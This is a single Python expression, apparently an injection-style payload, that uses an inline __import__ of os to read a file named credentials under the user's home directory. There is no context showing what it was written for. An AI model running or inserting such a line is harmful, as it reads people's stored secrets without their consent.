open("%s/notes/credentials" % __import__("os").environ["HOME"]).read()
